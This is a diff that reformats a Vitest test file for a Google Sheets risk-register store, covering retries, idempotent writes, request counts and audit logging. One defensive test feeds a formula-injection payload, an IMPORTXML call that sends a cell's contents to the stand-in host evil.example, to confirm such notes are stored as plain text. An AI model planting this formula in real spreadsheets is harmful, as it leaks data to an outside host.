@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { DomainError } from '../../src/domain/domain-error.js';
 import type { WriteRequest } from '../../src/ports/register-store.js';
-import type { Fault, FakeSheetsServer } from '../helpers/fake-sheets-server.js';
+import type { FakeSheetsServer, Fault } from '../helpers/fake-sheets-server.js';
 import { sheetsStore, startSheets, type Tabs } from '../helpers/sheets-fixture.js';
 
 const REGISTER: Tabs = {
@@ -10,8 +10,14 @@ const REGISTER: Tabs = {
     ['R-1', 'Dir of Commissioning', 'gap in the LA commissioning infrastructure', 3, 2, 6, 'High'],
     ['R-2', 'Lead Commissioner', 'concerns about accuracy of data', 2, 2, 4, 'Medium'],
   ],
-  Actions: [['Action ID', 'Action', 'Lead', 'Timescale', 'Status'], ['A-1', 'Roll out IAPT', 'Lead Commissioner (PCT)', '2026/27', 'In progress']],
-  People: [['Name', 'Slack user'], ['Dir of Commissioning', 'U0DIR']],
+  Actions: [
+    ['Action ID', 'Action', 'Lead', 'Timescale', 'Status'],
+    ['A-1', 'Roll out IAPT', 'Lead Commissioner (PCT)', '2026/27', 'In progress'],
+  ],
+  People: [
+    ['Name', 'Slack user'],
+    ['Dir of Commissioning', 'U0DIR'],
+  ],
   'Audit log': [['When', 'Who', 'Item', 'Field', 'Old value', 'New value', 'Via', 'Note']],
 };
 
@@ -21,13 +27,30 @@ function raiseProbability(): WriteRequest {
   counter += 1;
   const when = `2026-11-23T10:00:${String(counter).padStart(2, '0')}.000+00:00`;
   return {
-    updates: [{ tab: 'risks', id: 'r 2', changes: [
-      { field: 'probability', expected: 2, value: 3 },
-      { field: 'rating', expected: 4, value: 6 },
-      { field: 'band', expected: 'Medium', value: 'High' },
-    ] }],
+    updates: [
+      {
+        tab: 'risks',
+        id: 'r 2',
+        changes: [
+          { field: 'probability', expected: 2, value: 3 },
+          { field: 'rating', expected: 4, value: 6 },
+          { field: 'band', expected: 'Medium', value: 'High' },
+        ],
+      },
+    ],
     inserts: [],
-    audit: [{ when, who: 'U0LEAD', item: 'R-2', field: 'probability', oldValue: '2', newValue: '3', via: 'command', note: '' }],
+    audit: [
+      {
+        when,
+        who: 'U0LEAD',
+        item: 'R-2',
+        field: 'probability',
+        oldValue: '2',
+        newValue: '3',
+        via: 'command',
+        note: '',
+      },
+    ],
   };
 }
 
@@ -54,7 +77,13 @@ function auditRows() {
 describe('when Google Sheets fails a write', () => {
   it.each<[string, Fault[]]>([
     ['429 with Retry-After', [{ kind: 'spreadsheets.batchUpdate', status: 429, retryAfterSeconds: 1 }]],
-    ['429 without Retry-After, twice', [{ kind: 'spreadsheets.batchUpdate', status: 429 }, { kind: 'spreadsheets.batchUpdate', status: 429 }]],
+    [
+      '429 without Retry-After, twice',
+      [
+        { kind: 'spreadsheets.batchUpdate', status: 429 },
+        { kind: 'spreadsheets.batchUpdate', status: 429 },
+      ],
+    ],
     ['500', [{ kind: 'spreadsheets.batchUpdate', status: 500 }]],
     ['503', [{ kind: 'spreadsheets.batchUpdate', status: 503 }]],
     ['a hang until the time-out', [{ kind: 'spreadsheets.batchUpdate', hang: true }]],
@@ -72,19 +101,25 @@ describe('when Google Sheets fails a write', () => {
     expect(server.appliedCount('spreadsheets.batchUpdate')).toBe(1);
   });
 
-  it('with a Slack request\'s write applied but its answer lost, then its change ID in the Audit log shows it landed, and it is not sent again', async () => {
+  it("with a Slack request's write applied but its answer lost, then its change ID in the Audit log shows it landed, and it is not sent again", async () => {
     const store = sheetsStore(server, id, { timeoutMs: 400 });
     server.injectFaults({ kind: 'spreadsheets.batchUpdate', applyThenDrop: true });
     await store.write({ ...raiseProbability(), changeId: 'slack:trigger:lost.answer' });
     expect(risk2()).toEqual(['R-2', 'Lead Commissioner', 'concerns about accuracy of data', 2, 3, 6, 'High']);
-    expect(auditRows()).toEqual([[expect.any(String), 'U0LEAD', 'R-2', 'probability', '2', '3', 'command', null, 'slack:trigger:lost.answer']]);
+    expect(auditRows()).toEqual([
+      [expect.any(String), 'U0LEAD', 'R-2', 'probability', '2', '3', 'command', null, 'slack:trigger:lost.answer'],
+    ]);
     expect(server.appliedCount('spreadsheets.batchUpdate')).toBe(1);
   });
 
   it('with Retry-After, then the retry waits at least that long', async () => {
     // The client's waits are recorded, not slept: each with the writes Sheets had seen when it began.
     const waits: Array<{ ms: number; writesBefore: number }> = [];
-    const store = sheetsStore(server, id, { sleep: async (ms) => { waits.push({ ms, writesBefore: server.count('spreadsheets.batchUpdate') }); } });
+    const store = sheetsStore(server, id, {
+      sleep: async (ms) => {
+        waits.push({ ms, writesBefore: server.count('spreadsheets.batchUpdate') });
+      },
+    });
     await store.load(); // warm: tab list and ranges known
     server.injectFaults({ kind: 'spreadsheets.batchUpdate', status: 429, retryAfterSeconds: 1 });
     await store.write(raiseProbability());
@@ -136,8 +171,13 @@ describe('requests per operation', () => {
     await store.write(raiseProbability());
     expect(server.count()).toBeLessThanOrEqual(3);
     server.resetCounts();
-    await store.write({ ...raiseProbability(), updates: [{ tab: 'risks', id: 'R-1', changes: [{ field: 'impact', expected: 3, value: 2 }] }] });
-    expect([server.count('values.batchGet'), server.count('spreadsheets.batchUpdate'), server.count()]).toEqual([1, 1, 2]);
+    await store.write({
+      ...raiseProbability(),
+      updates: [{ tab: 'risks', id: 'R-1', changes: [{ field: 'impact', expected: 3, value: 2 }] }],
+    });
+    expect([server.count('values.batchGet'), server.count('spreadsheets.batchUpdate'), server.count()]).toEqual([
+      1, 1, 2,
+    ]);
   });
 
   it('loads within the cache time reuse one read; a write clears it', async () => {
@@ -157,7 +197,16 @@ describe('requests per operation', () => {
     const raw = await store.load();
     expect(raw.tabs.audit.found).toBe(false);
     await store.write(raiseProbability());
-    expect(server.snapshot(id)['Audit log']![0]).toEqual(['When', 'Who', 'Item', 'Field', 'Old value', 'New value', 'Via', 'Note']);
+    expect(server.snapshot(id)['Audit log']![0]).toEqual([
+      'When',
+      'Who',
+      'Item',
+      'Field',
+      'Old value',
+      'New value',
+      'Via',
+      'Note',
+    ]);
     expect(auditRows()).toHaveLength(1);
   });
 });
@@ -166,9 +215,29 @@ describe('values written as data', () => {
   it('a note starting with = + - @ is stored as that text, and the write never uses USER_ENTERED', async () => {
     const store = sheetsStore(server, id);
     for (const note of ['=IMPORTXML("http://evil.example/?"&A1,"//a")', '+44 20 7946 0000', '-1', '@here']) {
-      await store.write({ updates: [], inserts: [], audit: [{ when: `2026-11-23T11:00:00Z ${note}`, who: 'U0LEAD', item: 'A-1', field: 'note', oldValue: '', newValue: note, via: 'command', note }] });
+      await store.write({
+        updates: [],
+        inserts: [],
+        audit: [
+          {
+            when: `2026-11-23T11:00:00Z ${note}`,
+            who: 'U0LEAD',
+            item: 'A-1',
+            field: 'note',
+            oldValue: '',
+            newValue: note,
+            via: 'command',
+            note,
+          },
+        ],
+      });
     }
-    expect(auditRows().map((row) => row[7])).toEqual(['=IMPORTXML("http://evil.example/?"&A1,"//a")', '+44 20 7946 0000', '-1', '@here']);
+    expect(auditRows().map((row) => row[7])).toEqual([
+      '=IMPORTXML("http://evil.example/?"&A1,"//a")',
+      '+44 20 7946 0000',
+      '-1',
+      '@here',
+    ]);
     const bodies = JSON.stringify(server.requests.map((r) => r.body));
     expect(bodies).not.toContain('USER_ENTERED');
     expect(bodies).not.toContain('formulaValue');
